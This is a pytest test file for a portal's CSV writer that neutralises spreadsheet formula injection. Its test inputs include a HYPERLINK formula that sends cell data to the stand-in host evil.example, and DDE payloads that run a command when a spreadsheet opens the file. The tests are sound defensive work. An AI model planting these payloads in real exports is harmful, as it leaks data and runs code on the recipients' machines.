"""The one CSV writer: cells a spreadsheet would run as formulas are written as text."""

import csv
import io
import re
from decimal import Decimal

import pytest

from portal.csv import csv_response, safe_cell, writer


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(hostile):
    assert safe_cell(hostile) == "'" + hostile


@pytest.mark.parametrize("plain", ["Joanne Pryce", "R01", "2026-12-03", "", "a=b", "x -y"])
def test_ordinary_text_is_unchanged(plain):
    assert safe_cell(plain) == plain


@pytest.mark.parametrize("number", [-5, Decimal("-12.50"), 3.5, "-5", "+44", "-0.25"])
def test_numbers_stay_numbers(number):
    # A bare number cannot hold a formula, and a spreadsheet reads it as the number.
    assert safe_cell(number) == number


def test_none_is_an_empty_cell():
    assert safe_cell(None) == ""


def test_writer_neutralises_every_row():
    text = io.StringIO()
    out = writer(text)
    out.writerow(["name", "score"])
    out.writerows([["=1+1", -5], ["@me", "ok"]])

    assert list(csv.reader(io.StringIO(text.getvalue()))) == [
        ["name", "score"],
        ["'=1+1", "-5"],
        ["'@me", "ok"],
    ]


def test_csv_response_is_a_utf8_download_with_a_safe_header_and_rows():
    response = csv_response("parks-tracking.csv", ["who", "=said"], [["Zoë", "+1 more"]])

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="parks-tracking.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows == [["who", "'=said"], ["Zoë", "'+1 more"]]
    assert response.content.startswith("\ufeff".encode())


def test_the_portal_writes_csv_only_through_this_writer():
    """A module that writes with the standard library's writer skips the neutralising."""
    from pathlib import Path

    from django.conf import settings

    base = Path(settings.BASE_DIR)
    skipped = {base / "portal" / "csv.py"}
    offenders = [
        str(path.relative_to(base))
        for path in base.glob("*/**/*.py")
        if path.parts[len(base.parts)] not in {".venv", "tests", "node_modules"}
        and path not in skipped
        and re.search(r"^import csv$", text := path.read_text(), re.MULTILINE)
        and ("csv.writer(" in text or "csv.DictWriter(" in text)
    ]
    assert offenders == []
